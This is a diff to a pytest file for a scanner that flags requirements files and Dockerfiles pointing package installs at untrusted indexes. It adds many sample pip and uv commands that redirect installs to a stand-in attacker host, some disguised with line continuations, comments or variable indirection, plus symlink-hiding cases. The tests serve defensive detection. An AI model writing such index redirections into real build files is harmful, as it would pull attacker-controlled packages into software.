@@ -57,6 +57,22 @@ OTHERS = [
     ("requirements.txt", f"a @ {EVIL}/a-1-py3-none-any.whl", 1),
     ("requirements.txt", f"-r {EVIL}", 1),
     ("requirements.txt", "-r more.txt", 1),
+    ("requirements.txt", "-r ../requirements.txt", 1),
+    ("requirements.txt", "-r x/../requirements.txt", 1),
+    ("requirements.txt", "-r Dockerfile", 1),
+    ("requirements/prod.txt", "-r ../base.txt", 1),
+    ("requirements/prod.txt", "-c ../../requirements/base.txt", 1),
+    ("requirements/prod.txt", "-r linked/../base.txt", 1),
+    # pip reads every option of a line.
+    ("requirements.txt", f"--only-binary :all: --index-url {EVIL}", 1),
+    ("requirements.txt", f"--only-binary=:all: -i {EVIL}", 1),
+    ("requirements.txt", f"a==1\n--no-binary x -i {EVIL}", 2),
+    ("requirements.txt", f"--use-feature truststore \\\n  --extra-index-url={EVIL}", 1),
+    ("requirements.txt", "--only-binary :all: -i ${INDEX}", 1),
+    ("requirements.txt", "--no-binary x -r more.txt", 1),
+    ("requirements.txt", "--use-feature=x --find-links wheels", 1),
+    ("requirements.txt", f"a==1\n--only-binary x --trusted-host {PYPI}", 2),
+    ("requirements.txt", "a @ ${PLACE}", 1),
     ("requirements.txt", f"-i {PYTHON}/simple --extra-index-url {EVIL}", 1),
     ("requirements.txt", "-i https://${HOST}/simple", 1),
     ("requirements.txt", f"a==1\n# x \\\n-i {EVIL}", 2),
@@ -155,6 +171,23 @@ OTHERS = [
     ("Dockerfile", "ENV GONOSUMDB=evil.example/*", 1),
     ("app.Dockerfile", f"RUN PIP_INDEX_URL='{EVIL}' pip install x", 1),
     ("Dockerfile", f"RUN pip install --extra-index-url {EVIL} x", 1),
+    ("Dockerfile", f"FROM x\nRUN pip install -i {EVIL} x", 2),
+    ("Dockerfile", f"RUN pip3 install -Ui{EVIL} x", 1),
+    ("Dockerfile", f"RUN python -m pip --quiet download x -f '{EVIL}'", 1),
+    ("Dockerfile", f"RUN pip install \"x>1;python_version<'4'\" -i {EVIL}", 1),
+    ("Dockerfile", f"FROM x\nRUN cd / && pip install x \\\n  # a comment\n\n  -i {EVIL}", 5),
+    ("Dockerfile", f"# a comment \\\nRUN pip install -i {EVIL} x", 2),
+    ("Dockerfile", f"RUN uv pip install --index-url \\\n {EVIL} x", 1),
+    ("Dockerfile", f'RUN ["pip", "install", "-i", "{EVIL}", "x"]', 1),
+    ("Dockerfile", f'RUN ["pip", "install", "--index-url", "{EVIL}", "x"]', 1),
+    ("Dockerfile", f"RUN pip install --index-url {PYTHON},@evil.example/simple x", 1),
+    ("Dockerfile", f"ARG INDEX={EVIL}\nRUN pip install --index-url $INDEX x", 2),
+    ("Dockerfile", 'RUN pip install --extra-index-url="${INDEX}" x', 1),
+    ("Dockerfile", "RUN pip install -i $INDEX x", 1),
+    ("Dockerfile", "RUN npm ci --registry=$REGISTRY", 1),
+    ("Dockerfile", f"RUN pip install -i {PYTHON}\\\n@evil.example/simple x", 1),
+    ("Dockerfile", f"RUN pip install\\\n --index-url\\\n {EVIL} x", 2),
+    ("Dockerfile", f"RUN pip\\\n install -i\\\n {EVIL} x", 2),
 ]
 
 
@@ -171,7 +204,9 @@ PLAIN = {
     "requirements.txt": f"# https://example.com\n-i {PYTHON}/simple/\n--require-hashes\n-r dev-requirements.txt\n"
     f"a==1 ; sys_platform == 'linux' \\\n    {HASH} # via -r {EVIL}\n-e ./lib[x]\nb>=2\n",
     "dev-requirements.txt": f"--extra-index-url {PYTHON}:443/simple\n-c requirements/base.txt\n",
-    "requirements/base.txt": "--only-binary :all:\n",
+    "requirements/base.txt": "--only-binary :all:\n--no-binary=a,b\n--use-feature  fast-deps\n",
+    "requirements/prod.txt": "-r base.txt\n-c ./base.txt\n-r ../requirements.txt\n-r ../requirements/dev.txt\n",
+    "a/b/requirements.txt": "-r ../requirements.txt\n-r ../../requirements/base.txt\n-c x/constraints.txt\n",
     "notes.txt": EVIL,
     "src/pip/__init__.py": EVIL,
     "pip.conf": f"# {EVIL}\n; {EVIL}\n[global]\nno-binary = :all:\nindex-url = {PYTHON}/simple\n",
@@ -199,7 +234,9 @@ PLAIN = {
     "Cargo.lock": f'source = "{CRATES}"\n',
     "Cargo.toml": f'[package]\nhomepage = "{EVIL}"\n[dependencies]\na = "1"\n',
     "Dockerfile": f"# GOPROXY={EVIL}\nENV GOPROXY=https://{GO},direct PIP_NO_INDEX=1 GOSUMDB=off\n"
-    "RUN sed -i s/a/b/ x && tool --index 5 --find-links ./wheels\n",
+    "RUN sed -i s/a/b/ x && tool --index $I --find-links ./wheels\n"
+    "RUN pip install -f ./wheels -r requirements.txt && rm -f $FILE || grep -i $WORD x\n"
+    f"RUN pip\\\n install x ; sed -i 's/$A/b/' x\nRUN cp -i {EVIL} .\n",
 }
 
 
@@ -246,6 +283,40 @@ def test_a_link_to_a_requirements_file_is_read_under_its_own_name(
     (tmp_path / "source/requirements.txt").symlink_to("x.bin")
 
     assert len(problems({"x.bin": f"-i {EVIL}"}, tmp_path, monkeypatch)) == 1
+
+
+def test_an_included_file_that_is_not_read_is_refused_with_the_names_that_are(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (line,) = problems({"requirements.txt": "-r more.txt"}, tmp_path, monkeypatch)
+
+    assert line == (
+        "'requirements.txt':1: '-r more.txt' includes a file that nobody checks; include only *requirements*.txt,"
+        " *constraints*.txt and requirements/*.txt of this source"
+    )
+
+
+@pytest.mark.parametrize("name", ["requirements", "app/requirements", ".cargo", "etc/pip"])
+@pytest.mark.parametrize("target", ["real", "missing"])
+def test_a_link_with_the_name_of_a_folder_whose_files_are_read_is_refused(
+    name: str, target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    link = tmp_path / "source" / name
+    link.parent.mkdir(parents=True)
+    link.symlink_to(tmp_path / "source" / target)
+    files = {f"real/{file}": f"--extra-index-url {EVIL}" for file in ("base.txt", "config.toml", "x.conf")}
+
+    (line,) = problems(files, tmp_path, monkeypatch)
+
+    assert line == f"'{name}': is a link, so the files in it are not read; make it a folder"
+
+
+def test_links_that_hide_no_file_are_accepted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "source/bin").mkdir(parents=True)
+    (tmp_path / "source/bin/pip").symlink_to("tool")
+    (tmp_path / "source/linked").symlink_to("bin")
+
+    assert problems({"bin/tool": "x"}, tmp_path, monkeypatch) == []
 
 
 def test_only_the_first_problems_are_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
